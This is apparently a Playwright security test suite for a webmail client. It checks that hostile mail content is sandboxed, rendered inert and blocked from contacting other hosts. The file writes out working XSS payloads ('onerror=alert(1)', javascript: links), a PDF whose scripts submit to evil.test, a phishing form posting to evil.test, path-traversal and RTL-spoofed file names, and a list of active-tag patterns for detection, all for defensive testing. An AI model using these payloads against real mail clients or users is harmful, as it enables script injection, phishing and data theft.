import { once } from 'node:events';
import { createServer, request as requestHttp } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { APIRequestContext, Page } from '@playwright/test';
import PostalMime from 'postal-mime';
import { aMessage } from '#tests/support/mail-server/a-message.ts';
import { rawMessages } from '#tests/support/mail-server/raw-messages.ts';
import { body, composer } from './compose-fixture.ts';
import { expect, signIn, test } from './fixture.ts';
import type { Person } from './fixture.ts';
import { hostileBodies } from './hostile-bodies.ts';
import { loadVectors } from './vectors/load-vectors.ts';
import { scriptVectors } from './vectors/script-vectors.ts';
import { toLetters } from './vectors/to-letters.ts';

const message = (page: Page) => page.getByRole('region', { name: 'Message' });
const frame = (page: Page) => page.frameLocator('iframe[title="Message body"]');

/** What a page asked of others, and every sign that a script of a mail ran. */
function watch(page: Page, own: string): string[] {
  const seen: string[] = [];
  page.context().on('request', (request) => /^(?:https?|wss?):/.test(request.url()) && !request.url().startsWith(`${own}/`) && seen.push(request.url()));
  page.context().on('page', (opened) => seen.push(`opened ${opened.url()}`));
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  return seen;
}

async function openMail(page: Page, subject: string): Promise<void> {
  await page.getByRole('row', { name: new RegExp(`, ${subject},`) }).click();
  await expect(message(page).getByRole('heading', { name: subject, exact: true })).toBeVisible();
}

async function uidValidity({ device }: Person): Promise<string> {
  return /UIDVALIDITY (\d+)/.exec(await device.command('STATUS INBOX (UIDVALIDITY)'))?.[1] ?? '';
}

test('checks 1, 5, 8 and 78: vectors by the hundred are read, answered, forwarded, kept as drafts, opened again, printed and seen in a window of their own; nothing runs, and no draft has anything active', async ({ page, app, person, complaints }) => {
  test.setTimeout(180_000);
  complaints.expected.push(/404/, /Blocked script execution/, /base URI/, /Loading media from/);
  const all = toLetters(['<svg><style><a id="</style><img src=x onerror=alert(1)>">', ...Object.values(hostileBodies), ...scriptVectors(), ...loadVectors()], 12);
  await person.device.append('INBOX', all.map((html, index) => ({ raw: aMessage({ subject: `Letter ${index}`, from: 'Ann <ann@else.test>', html }) })));
  // Somebody else's program wrote this one.
  await person.device.append('Drafts', [{ raw: aMessage({ subject: 'Foreign <img src=x onerror=alert(1)>', from: person.user, html: all[0] ?? '' }) }]);
  await signIn(page, app, person.user);
  const seen = watch(page, app.address);
  for (const [index] of all.entries()) {
    await openMail(page, `Letter ${index}`);
    await expect(frame(page).getByText(`Beginning ${index}`, { exact: true })).toBeVisible();
    if (index % 4 > 0) continue;
    // Printing draws the same frame for another medium.
    await page.emulateMedia({ media: 'print' });
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    await page.emulateMedia({ media: 'screen' });
    await message(page).focus();
    await page.keyboard.press(index === 0 ? 'r' : 'f');
    await expect(body(page).getByText('Beginning').or(body(page).getByRole('button', { name: /original message/ })).first()).toBeVisible();
    await composer(page).getByRole('textbox', { name: 'Subject' }).fill(`Kept ${index}`);
    await expect(composer(page).getByRole('status').filter({ hasText: /Saved \d/ })).toBeVisible();
    await composer(page).getByRole('button', { name: 'Close and keep as draft' }).click();
    await expect(composer(page)).toHaveCount(0);
  }
  await page.getByRole('treeitem', { name: /^Drafts/ }).click();
  for (const subject of ['Kept 0', 'Kept 4', 'Foreign']) {
    await page.getByRole('row', { name: new RegExp(subject) }).click();
    await expect(composer(page).getByRole('textbox', { name: 'Subject' })).toHaveValue(new RegExp(subject));
    await expect(body(page).getByText('Beginning').or(body(page).getByRole('button', { name: /original message/ })).first()).toBeVisible();
    await composer(page).getByRole('button', { name: 'Close and keep as draft' }).click();
    await expect(composer(page)).toHaveCount(0);
  }
  // What is kept is what would be sent.
  for (const raw of await rawMessages(person.device, 'Drafts')) {
    const { subject = '', html = '' } = await PostalMime.parse(Buffer.from(raw, 'latin1'));
    if (!subject.startsWith('Kept')) continue;
    expect(html).toContain('Beginning');
    expect(activeIn(html), subject).toEqual([]);
  }
  const validity = await uidValidity(person);
  await page.goto(`${app.address}/mail/INBOX/1?uidValidity=${validity}`);
  await expect(frame(page).getByText('Beginning 0', { exact: true })).toBeVisible();
  await page.evaluate(() => fetch('/healthz').then((response) => response.text()));
  expect(seen).toEqual([]);
});

/** Tags of an HTML text that run or load, and attributes and addresses that do. */
function activeIn(html: string): string[] {
  const tags = html.match(/<[a-z!?/](?:"[^"]*"|'[^']*'|[^'">])*>/gi) ?? [];
  return tags.filter((tag) => /^<\/?(?:script|style|iframe|object|embed|applet|form|input|button|base|meta|link|svg|math|video|audio|source|template|frame|textarea)\b/i.test(tag) || /[\s"'/](?:on\w+|srcdoc|srcset|ping|formaction|background|poster)\s*=|(?:href|src)\s*=\s*["']?\s*(?:javascript|vbscript|data:text|file|blob)/i.test(tag.replaceAll(/(?:alt|title)="[^"]*"/g, '')));
}

test('check 6: markup in every header, a label, a folder’s name and a type is text in the list, the search results, the heading, the title, dialogs, notifications and toasts', async ({ page, app, person }) => {
  await page.addInitScript(() => {
    const told: string[] = [];
    class Told {
      static permission = 'granted';
      static requestPermission = () => Promise.resolve('granted');
      onclick = null;
      constructor(title: string, options?: { body?: string }) {
        told.push(`${title}|${options?.body ?? ''}`);
      }
      close(): void {}
    }
    Object.assign(window, { Notification: Told, told });
    Object.defineProperty(Document.prototype, 'visibilityState', { get: () => ((window as { isAway?: boolean }).isAway ? 'hidden' : 'visible') });
  });
  const markup = '<img src=x onerror=alert(1)>';
  const raw = aMessage({
    subject: `Hostile ${markup}`,
    from: `"${markup}" <evil@z.test>`,
    to: `"${markup}" <me@example.test>`,
    text: `findme ${markup}\n`,
    headers: { 'Reply-To': `"${markup}" <r@z.test>`, 'List-Id': `${markup} <l.z.test>`, 'X-Keywords': markup },
    attachments: [{ name: `${markup}.txt`, mediaType: 'text/plain', content: Buffer.from(markup) }, { name: 'odd.bin', mediaType: markup.replaceAll(' ', ''), content: Buffer.from(markup) }],
  });
  // An atom of IMAP may hold all of it but blanks and parentheses.
  const label = '<img/src=x/onerror=alert`1`>';
  await person.device.append('INBOX', [{ raw, flags: [label] }]);
  await person.device.create(markup);
  await signIn(page, app, person.user);
  const seen = watch(page, app.address);
  await page.goto(`${app.address}/settings/notifications`);
  const saved = page.waitForResponse((response) => response.request().method() === 'POST' && 'next-action' in response.request().headers());
  await page.getByRole('checkbox').first().check();
  await saved;
  await page.goto(`${app.address}/mail/INBOX`);
  await expect(page.getByRole('row').first()).toContainText(`Hostile ${markup}`);
  await page.getByRole('row').first().click();
  await expect(message(page).getByRole('heading', { name: `Hostile ${markup}` })).toBeVisible();
  await message(page).getByRole('button', { name: 'Show all recipients' }).click();
  await expect(message(page).getByText(label, { exact: true })).toBeVisible();
  await message(page).getByRole('button', { name: 'Star', exact: true }).first().click();
  await message(page).focus();
  await page.keyboard.press('v');
  await expect(page.getByRole('dialog').getByRole('option', { name: new RegExp(markup.replaceAll(/[()]/g, '.')) })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.keyboard.press('l');
  await expect(page.getByRole('dialog').getByText(label, { exact: true })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('searchbox', { name: 'Search mail' }).fill('findme');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('row').first()).toContainText(`Hostile ${markup}`);
  await page.goto(`${app.address}/mail/INBOX`);
  await expect(page.getByRole('status', { name: 'Connection' })).toHaveText('Live');
  await page.evaluate(() => Object.assign(window, { isAway: true }));
  await person.device.append('INBOX', [{ raw }]);
  await expect.poll(() => page.evaluate(() => (window as unknown as { told: string[] }).told)).toEqual([`${markup}|Hostile ${markup}`]);
  expect(await page.locator('img[src=x], img[onerror]').count()).toBe(0);
  expect(seen).toEqual([]);
});

test('checks 4, 35, 36, 37, 39, 40 and 41: what a mail may not do in its frame', async ({ page, app, person, complaints }) => {
  // The second: Playwright listens in the frame for where it clicks.
  complaints.expected.push(/base URI/, /Blocked script execution/);
  const html = `<p>Beginning</p>
    <style>@media (max-height:500px){.grow{height:600px}} .tall{min-height:100vh;height:calc(100vh + 9px);margin-top:-100vh}</style><div class=grow>grow</div><div class=tall>tall</div>
    <div style="position:fixed;inset:0;z-index:99999;background:red" id=cover>cover</div><p style="margin:-5000px 0 0 -5000px !important;height:200vh">far</p>
    <form action="https://evil.test"><input name=password type=password><button>Sign in</button></form>
    <a id=location name=body>1</a><img id=contentDocument name=getElementById><form name=parent><input name=parentNode></form>
    <a href="https://else.test/x">web</a><a href="java\tscript:alert(1)">js</a><a href=" data:text/html,x">data</a><a href="blob:https://x/1">blob</a><a href="file:///etc">file</a><a href="smb://x/y">smb</a><a href="ms-word:x">ms</a><a href="intent://x">intent</a>
    <base href="https://evil.test/"><a href="relative">relative</a><a href="/settings/reading">own</a><a href="mailto:ann@else.test?subject=Hi">mail</a>`;
  await person.device.append('INBOX', [{ raw: aMessage({ subject: 'Frame', html }) }, { raw: aMessage({ subject: 'After', html: '<p>After it</p>' }) }]);
  await signIn(page, app, person.user);
  await openMail(page, 'Frame');
  const element = page.locator('iframe[title="Message body"]');
  await expect(frame(page).getByText('Beginning')).toBeVisible();
  expect(await element.getAttribute('sandbox')).toBe('allow-same-origin allow-popups allow-popups-to-escape-sandbox');
  expect([await element.getAttribute('allow'), await element.getAttribute('referrerpolicy'), await element.getAttribute('name')]).toEqual(['', 'no-referrer', null]);
  const { headers } = await page.request.get(`${app.address}/mail-frame`).then((response) => ({ headers: response.headers() }));
  expect(headers['content-security-policy']).toContain("default-src 'none'");
  expect(headers['content-security-policy']).toContain('sandbox allow-same-origin allow-popups');
  await expect(frame(page).locator('form, input, button, base')).toHaveCount(0);
  const links = await frame(page).locator('a[href]').evaluateAll((all) => all.map((one) => [one.textContent, one.getAttribute('href'), one.getAttribute('rel'), one.getAttribute('target')]));
  const ours = '/compose?mailto=mailto%3Aann%40else.test%3Fsubject%3DHi';
  expect(links).toEqual([
    ['web', 'https://else.test/x', 'noopener noreferrer nofollow', '_blank'],
    ['mail', ours, 'noopener noreferrer nofollow', '_blank'],
  ]);
  const styles = await frame(page).locator('body *').evaluateAll((all) => all.map((one) => [getComputedStyle(one).position, getComputedStyle(one).zIndex]));
  expect(new Set(styles.map(String))).toEqual(new Set(['static,auto']));
  // Nothing lies outside the frame's box, and the frame is as tall as what is in it, not taller at each look.
  const outside = await frame(page).locator('body *:not(style)').evaluateAll((all) => all.filter((one) => one.getBoundingClientRect().top < 0 || one.getBoundingClientRect().left < 0).map((one) => one.outerHTML));
  expect(outside).toEqual([]);
  expect((await element.boundingBox())?.height).toBeLessThan(800);
  const opening = page.context().waitForEvent('page');
  await frame(page).getByText('mail', { exact: true }).click();
  const writing = await opening;
  await expect(writing.getByRole('textbox', { name: 'Subject' })).toHaveValue('Hi');
  expect(await writing.evaluate(() => window.opener === null)).toBe(true);
  await writing.close();
  await openMail(page, 'After'); // The page still works.
  await expect(frame(page).getByText('After it')).toBeVisible();
});

test('check 38: a link that says one host and leads to another is opened by way of a page that shows the true one', async ({ page, app, person }) => {
  const html = '<p>Beginning</p><a href="https://evil.test/x">https://bank.test</a><a href="https://xn--bnk-5cd.test/">puny</a><a href="https://bank.test@evil.test/">user</a><a href="http://192.0.2.1/">number</a><a href="https://honest.test/">honest.test</a>';
  await person.device.append('INBOX', [{ raw: aMessage({ subject: 'Links', html }) }]);
  await signIn(page, app, person.user);
  await openMail(page, 'Links');
  await expect(frame(page).locator('a[href^="/leave?"]')).toHaveCount(4);
  await expect(frame(page).getByText('honest.test')).toHaveAttribute('href', 'https://honest.test/');
  const opening = page.context().waitForEvent('page');
  await frame(page).getByText('https://bank.test').click();
  const leaving = await opening;
  await expect(leaving.getByText('https://evil.test/x')).toBeVisible();
  expect(await leaving.evaluate(() => [window.opener === null, document.referrer])).toEqual([true, '']);
  await leaving.goto(`${leaving.url()}x`);
  await expect(leaving.getByRole('link', { name: /evil\.test/ })).toHaveCount(0);
});

/** Asks without a browser's care, with the page's cookies. */
async function ask(request: APIRequestContext, address: string, headers: Record<string, string> = {}): Promise<{ status: number; type: string; policy: string; disposition: string; body: string }> {
  const response = await request.get(address, { headers });
  const of = (name: string) => response.headers()[name] ?? '';
  return { status: response.status(), type: of('content-type'), policy: of('content-security-policy'), disposition: of('content-disposition'), body: (await response.body()).toString('latin1') };
}

test('checks 10, 11, 12 and 43: an attachment is a download or inert, whatever it calls itself and whoever asks', async ({ page, app, person, complaints }) => {
  complaints.expected.push(/415|MIME type|TrustedScriptURL/);
  const active = '<script>document.title="ran"</script>';
  const kinds = [
    ['a.html', 'text/html', active],
    ['a.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${active}</svg>`],
    ['a.xml', 'text/xml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${active}</html>`],
    ['a.xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml">${active}</html>`],
    ['a.mht', 'application/x-mimearchive', active],
    ['a.xsl', 'text/xsl', active],
    ['a.js', 'text/javascript', 'document.title="ran"'],
    ['a.pdf', 'application/pdf', '%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'],
    ['a.png', 'image/png', active],
    ['invoice\u202efdp.exe', 'application/x-msdownload', 'MZ'],
    ['../../etc/passwd"\u00e9', 'text/plain', 'x'],
    [`${'long'.repeat(1_250)}.txt`, 'text/plain', 'x'],
  ] as const;
  await person.device.append('INBOX', [{ raw: aMessage({ subject: 'Files', attachments: kinds.map(([name, mediaType, content]) => ({ name, mediaType, content: Buffer.from(content) })) }) }]);
  const validity = await uidValidity(person);
  await signIn(page, app, person.user);
  await openMail(page, 'Files');
  for (const [index, [name]] of kinds.entries()) {
    const address = `${app.address}/api/messages/1/parts/${index + 2}?mailbox=INBOX&uidValidity=${validity}`;
    const plain = await ask(page.request, address);
    expect(plain, name.slice(0, 40)).toMatchObject({ status: 200, type: 'application/octet-stream', policy: "default-src 'none'; sandbox" });
    expect(plain.disposition).toMatch(/^attachment; filename="[\x20-\x7e]*"(?:; filename\*=UTF-8''[\w.%~!#$&+^`|-]*)?$/);
    expect(plain.disposition.length).toBeLessThan(1_500);
    expect(plain.disposition).not.toMatch(/%E2%80%AE|\.\.\/|%2F/i);
    expect((await ask(page.request, `${address}&inline=1`)).status, `${name.slice(0, 40)} inline`).toBe(415);
    for (const destination of ['script', 'style', 'worker', 'serviceworker', 'object', 'embed', 'iframe']) {
      expect((await ask(page.request, address, { 'Sec-Fetch-Dest': destination })).status, destination).toBeGreaterThanOrEqual(400);
    }
    expect((await ask(page.request, address, { 'Sec-Fetch-Site': 'cross-site' })).status).toBeGreaterThanOrEqual(400);
  }
  // The same as a page of ours would ask for it.
  const script = `/api/messages/1/parts/8?mailbox=INBOX&uidValidity=${validity}`;
  const loaded = await page.evaluate(
    (src) =>
      new Promise((resolve) => {
        const element = document.createElement('script');
        element.onload = () => resolve('loaded');
        element.onerror = () => resolve('refused');
        element.src = src;
        document.head.append(element);
      }),
    script,
  );
  expect(loaded).toBe('refused');
  expect(await page.title()).not.toBe('ran');
});

test.describe('refused loads', () => {
  test.beforeEach(({ complaints }) => void complaints.expected.push(/./));

  test('check 32: the proxy takes only what this session had signed, and nothing from another site or after signing out', async ({ page, app, person, browser }) => {
    await signIn(page, app, person.user);
    const sign = (target: string) =>
      page.evaluate(
        (url) =>
          fetch('/api/links', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ use: 'image', urls: [url] }) })
            .then((response) => response.json() as Promise<{ addresses: string[] }>)
            .then(({ addresses }) => addresses[0] ?? ''),
        target,
      );
    const mine = `${app.address}${await sign('http://127.0.0.1:1/a.png')}`;
    const changed = mine.replace('a.png', 'b.png');
    const refused = (await ask(page.request, changed)).status;
    expect(refused).toBe(403);
    expect((await ask(page.request, mine, { 'Sec-Fetch-Site': 'cross-site' })).status).toBeGreaterThanOrEqual(400);
    // Signed it may be: to an address that is not public nobody goes.
    expect((await ask(page.request, mine)).status).toBeGreaterThanOrEqual(400);
    const other = await browser.newPage();
    await signIn(other, app, app.nextUser());
    expect((await ask(other.request, mine)).status).toBe(403);
    await other.close();
    await page.request.post(`${app.address}/api/sign-out`, { headers: { Origin: app.address, 'Sec-Fetch-Site': 'same-origin' } });
    expect((await ask(page.request, mine)).status).toBe(401);
    // The page is told, and comes to rest: Chromium may wait for ever to close one that is about to be replaced.
    await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
  });

  test('checks 13 and 86: no address that can be opened by a link changes anything', async ({ page, app, person }) => {
    await person.device.append('INBOX', [{ raw: aMessage({ subject: 'Untouched', html: '<p>x</p><a href="/api/sign-out">a</a>' }) }]);
    const validity = await uidValidity(person);
    await signIn(page, app, person.user);
    const of = `mailbox=INBOX&uidValidity=${validity}`;
    const counts = async () => /\* STATUS.*/.exec(await person.device.command('STATUS INBOX (MESSAGES UNSEEN UIDNEXT)'))?.[0];
    const before = await counts();
    for (const path of ['/mail/INBOX', '/compose?to=a@b.test&body=x', '/settings/reading', '/api/sign-out', `/api/messages/1?${of}&body=html`, `/api/messages/1/headers?${of}`, `/api/messages/1/source?${of}`, `/api/messages/1/first?${of}`, '/api/outbox', '/api/drafts', '/login']) {
      await page.request.get(`${app.address}${path}`, { maxRedirects: 0, timeout: 10_000 });
    }
    expect(before).toContain('UNSEEN 1');
    expect(await counts()).toBe(before);
    await page.reload();
    await expect(page.getByRole('row', { name: /Untouched/ })).toHaveAttribute('data-unread', 'true');
  });
});

test('check 85: a message that asks for a receipt, an answer or a way out of a list is opened, and nobody is told', async ({ page, app, person }) => {
  const headers = {
    'Disposition-Notification-To': person.user,
    'Return-Receipt-To': person.user,
    'List-Unsubscribe': `<https://evil.test/out>, <mailto:${person.user}?subject=out>`,
    'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click',
  };
  await person.device.append('INBOX', [{ raw: aMessage({ subject: 'Tell me', html: '<p>Beginning</p>', headers, attachments: [{ name: 'a.ics', mediaType: 'text/calendar', content: Buffer.from(`BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER:mailto:${person.user}\r\nATTENDEE;RSVP=TRUE:mailto:${person.user}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`) }] }) }]);
  await signIn(page, app, person.user);
  const seen = watch(page, app.address);
  const told: string[] = [];
  page.on('request', (request) => /\/api\/(?:send|outbox|drafts)/.test(request.url()) && request.method() !== 'GET' && told.push(request.url()));
  await openMail(page, 'Tell me');
  await expect(frame(page).getByText('Beginning')).toBeVisible();
  // It is marked as read, which is the last thing that opening does.
  await expect.poll(() => person.device.command('STATUS INBOX (UNSEEN)')).toContain('UNSEEN 0');
  expect(await person.device.command('STATUS INBOX (MESSAGES)')).toContain('MESSAGES 1)');
  expect({ seen, told }).toEqual({ seen: [], told: [] });
});

test('check 83: of five hundred pictures in a message a hundred are drawn at once, the others when asked for', async ({ page, app, person }) => {
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  const html = `<p>Beginning</p>${'<img src="cid:one@x" width=9 height=9>'.repeat(500)}`;
  await person.device.append('INBOX', [{ raw: aMessage({ subject: 'Album', html, inline: [{ name: 'a.png', mediaType: 'image/png', content: png, contentId: 'one@x' }] }) }]);
  await signIn(page, app, person.user);
  await openMail(page, 'Album');
  await expect(frame(page).locator('img[src]')).toHaveCount(100);
  await message(page).getByRole('button', { name: 'Show 400 more pictures' }).click();
  await expect(frame(page).locator('img[src]')).toHaveCount(500);
});

test('check 46: a PDF with scripts and addresses is drawn as a picture, runs nothing and asks nobody', async ({ page, app, person, complaints }) => {
  complaints.expected.push(/connect to|Content Security Policy|failed: |Fetch API/);
  const pdf = [
    '%PDF-1.4',
    '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://evil.test/"\\))>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL\\("https://evil.test/"\\))>>]>>>>>>endobj',
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/URI/URI(https://evil.test/)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(https://evil.test/)>>>>]>>endobj',
    'trailer<</Root 1 0 R/Size 4>>',
    '%%EOF',
  ].join('\n');
  await person.device.append('INBOX', [{ raw: aMessage({ subject: 'Paper', attachments: [{ name: 'paper.pdf', mediaType: 'application/pdf', content: Buffer.from(pdf) }] }) }]);
  await signIn(page, app, person.user);
  const seen = watch(page, app.address);
  await openMail(page, 'Paper');
  const starting = page.waitForEvent('worker');
  await message(page).getByRole('button', { name: /paper\.pdf/ }).click();
  const script = (await starting).url();
  await expect(page.getByRole('dialog').locator('canvas')).toBeVisible();
  // What reads the file could reach nobody, were it ever made to: here it stays to be asked.
  const another = page.waitForEvent('worker');
  await page.evaluate((url) => Object.assign(window, { kept: new Worker(url, { type: 'module' }) }), script);
  const reader = await another;
  expect(reader.url()).toBe(script);
  expect(await reader.evaluate((own) => Promise.all([own, 'https://evil.test/'].map((address) => fetch(address, { mode: 'no-cors' }).then(() => 'asked', () => 'refused'))), `${app.address}/healthz`)).toEqual(['refused', 'refused']);
  await expect(page.getByRole('dialog').locator('a[href*="evil"], iframe, embed, object')).toHaveCount(0);
  expect(seen).toEqual([]);
});

test('check 94: what another page says to ours is heard by nobody', async ({ page, app, person }) => {
  await person.device.append('INBOX', [{ raw: aMessage({ subject: 'Still here' }) }]);
  await signIn(page, app, person.user);
  await page.evaluate(() => {
    for (const said of [{ type: 'signed-out' }, { type: 'reset' }, 'signed-out', null]) window.postMessage(said, '*');
    return new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  });
  await expect(page).toHaveURL(`${app.address}/mail/INBOX`);
  await openMail(page, 'Still here');
});

test('checks 7, 13, 38 and 72: plain text is literal, with safe links only: none to ourselves, and odd ones by way of a page that shows the true host', async ({ page, app, person }) => {
  const lines = ['a@a.co?]<img/src=x/onerror=alert(1)>', '[<script>x</script>] http://a.test/', 'javascript:alert(1) data:text/html,x', `${app.address}/api/sign-out`, 'https://bank.test@evil.test/x', 'https://xn--bnk-5cd.test/y http://192.0.2.1/'];
  await person.device.append('INBOX', [{ raw: aMessage({ subject: 'Plain', text: `${lines.join('\n')}\n` }) }]);
  await signIn(page, app, person.user);
  await openMail(page, 'Plain');
  for (const line of lines) await expect(message(page)).toContainText(line);
  await expect(message(page).locator('img[src=x], script')).toHaveCount(0);
  const targets = await message(page).locator('a[target=_blank]').evaluateAll((all) => all.map((one) => one.getAttribute('href')));
  expect(targets.slice(0, 2)).toEqual(['/compose?mailto=mailto%3Aa%40a.co', 'http://a.test/']);
  await expect(message(page).locator('a[href^="/leave?"]')).toHaveText(['https://xn--bnk-5cd.test/y', 'http://192.0.2.1/']);
  // What stands before an @ is linked by itself or not at all.
  expect(await message(page).locator('a[target=_blank]').evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).hostname).filter((host) => host !== location.hostname))).toEqual(['a.test', 'bank.test']);
  const opening = page.context().waitForEvent('page');
  await message(page).getByRole('link', { name: 'https://xn--bnk-5cd.test/y' }).click();
  await expect((await opening).getByRole('link', { name: /xn--bnk-5cd\.test/ })).toBeVisible();
});

test('checks 44 and 66: a nested message and an attached page are seen through the same filter, and a broken one is listed', async ({ page, app, person, complaints }) => {
  complaints.expected.push(/404/, /Blocked script execution/, /base URI/);
  const hostile = Object.values(hostileBodies).slice(0, 8).join('<p>-</p>');
  const nested = aMessage({ subject: 'Inner', html: `<p>Within</p>${hostile}` });
  await person.device.append('INBOX', [
    { raw: aMessage({ subject: 'Outer', attachments: [{ name: 'inner.eml', mediaType: 'message/rfc822', content: nested }, { name: 'page.html', mediaType: 'text/html', content: Buffer.from(hostile) }] }) },
    { raw: Buffer.from('Content-Type: multipart/mixed; boundary="\x00"\r\nSubject: =?x-none?q?=FF?=\r\nDate: never\r\n\r\n--\r\n\r\n') },
  ]);
  await signIn(page, app, person.user);
  const seen = watch(page, app.address);
  await expect(page.getByRole('row')).toHaveCount(2);
  await openMail(page, 'Outer');
  await message(page).getByRole('button', { name: /inner\.eml/ }).click();
  const dialog = page.getByRole('dialog');
  await expect(dialog.frameLocator('iframe').getByText('Within')).toBeVisible();
  await expect(dialog.locator('iframe')).toHaveAttribute('sandbox', 'allow-same-origin allow-popups allow-popups-to-escape-sandbox');
  await page.keyboard.press('Escape');
  await message(page).getByRole('button', { name: 'Preview page.html' }).click();
  await expect(dialog.locator('pre')).toHaveText(hostile.slice(0, 200_000));
  await expect(dialog.locator('pre *, iframe')).toHaveCount(0);
  await page.keyboard.press('Escape');
  await page.getByRole('row').first().click();
  await message(page).getByRole('button', { name: 'More' }).click();
  await page.getByRole('menuitem', { name: 'Show source' }).click();
  await expect(page.getByRole('dialog')).toContainText('boundary=');
  const download = page.waitForEvent('download');
  await page.getByRole('dialog').getByRole('link', { name: 'Download' }).click();
  expect((await download).suggestedFilename()).toMatch(/\.eml$/);
  expect(seen).toEqual([]);
});

test('checks 64, 65 and 90: the policy of pages is strict and its nonce new; nobody frames them; no picture service runs', async ({ page, app, complaints }) => {
  complaints.expected.push(/frame-ancestors|X-Frame-Options|failed: /);
  const get = (headers: Record<string, string> = {}) =>
    new Promise<string>((resolve, reject) => {
      requestHttp(`${app.address}/login`, { headers }, (response) => {
        response.resume();
        resolve(`${response.headers['content-security-policy']}|${response.headers['x-frame-options']}`);
      })
        .on('error', reject)
        .end();
    });
  const [first, second] = [await get({ 'x-nonce': 'mine', 'content-security-policy': "script-src 'unsafe-inline'" }), await get()];
  const nonces = [first, second].map((policy) => /'nonce-([^']+)'/.exec(policy)?.[1]);
  expect(nonces[0]).not.toBe(nonces[1]);
  expect(nonces).not.toContain('mine');
  for (const policy of [first, second]) {
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain('|DENY');
    expect(/script-src ([^;]*)/.exec(policy)?.[1]).toMatch(/^'nonce-[^']+' 'strict-dynamic'$/);
  }
  // A browser asked by a page of another origin shows nothing of ours.
  const elsewhere = createServer(({ url }, response) => {
    const frames = ['/login', '/mail-frame'].map((path) => `<iframe src="${app.address}${path}"></iframe>`).join('');
    response.setHeader('Content-Type', 'text/html').end(url === '/' ? `${frames}<iframe src="/inner"></iframe>` : '<p>Framed</p>');
  }).listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  const other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`; // It listens on a port.
  await page.goto(`${other}/`);
  await expect(page.locator('iframe').nth(2).contentFrame().getByText('Framed')).toBeVisible();
  expect(page.frames().map((framed) => new URL(framed.url()).origin)).toEqual([other, 'null', 'null', other]);
  elsewhere.close();
  const optimised = await page.request.get(`${app.address}/_next/image?url=${encodeURIComponent('/api/remote-image?u=x')}&w=64&q=75`);
  expect(optimised.status()).toBeGreaterThanOrEqual(400);
});

test('checks 64 and 91: what writes markup or addresses of scripts into a page is reported, and nothing of ours is, from signing in to an answer', async ({ page, app, person, complaints }) => {
  const told = () => page.evaluate(() => (globalThis as { told?: string[] }).told ?? []);
  await page.addInitScript(() => {
    const kept: string[] = ((globalThis as { told?: string[] }).told = []);
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sample, disposition }) => kept.push(`${disposition} ${effectiveDirective} ${sample}`));
  });
  await person.device.append('INBOX', [{ raw: aMessage({ subject: 'Plain', html: '<style>b{color:red}</style><p>Read <b>me</b></p>' }) }]);
  await signIn(page, app, person.user);
  await openMail(page, 'Plain');
  await expect(frame(page).getByText('Read me')).toBeVisible();
  await page.keyboard.press('r');
  await body(page).fill('Answer');
  // ProseMirror parses what is pasted by a policy of its own.
  await body(page).evaluate((root) => {
    const data = new DataTransfer();
    data.setData('text/html', '<p>Pasted <b>boldly</b></p>');
    root.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
  });
  await expect(body(page).locator('strong')).toHaveText('boldly');
  expect(complaints.heard).toEqual([]);
  expect(await told()).toEqual([]);
  complaints.expected.push(/\bTrusted(?:HTML|Script|Type)/);
  await page.evaluate((own) => {
    Reflect.set(document.createElement('b'), 'innerHTML', '<i>html</i>');
    for (const address of ['https://evil.test/x.js', '/api/messages/x.js', `${own}.evil.test/_next/static/x.js`, '/_next/static/../../api/x.js']) document.createElement('script').src = address;
    document.createElement('script').text = '1';
    (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('stranger', {});
  }, app.address);
  const directive = 'report require-trusted-types-for';
  await expect
    .poll(told)
    .toEqual([
      `${directive} Element innerHTML|<i>html</i>`,
      `${directive} HTMLScriptElement src|https://evil.test/x.js`,
      `${directive} HTMLScriptElement src|/api/messages/x.js`,
      expect.stringMatching(/^report require-trusted-types-for HTMLScriptElement src\|http/),
      `${directive} HTMLScriptElement src|/_next/static/../../api/x.js`,
      `${directive} HTMLScriptElement text|1`,
      'report trusted-types stranger',
    ]);
});
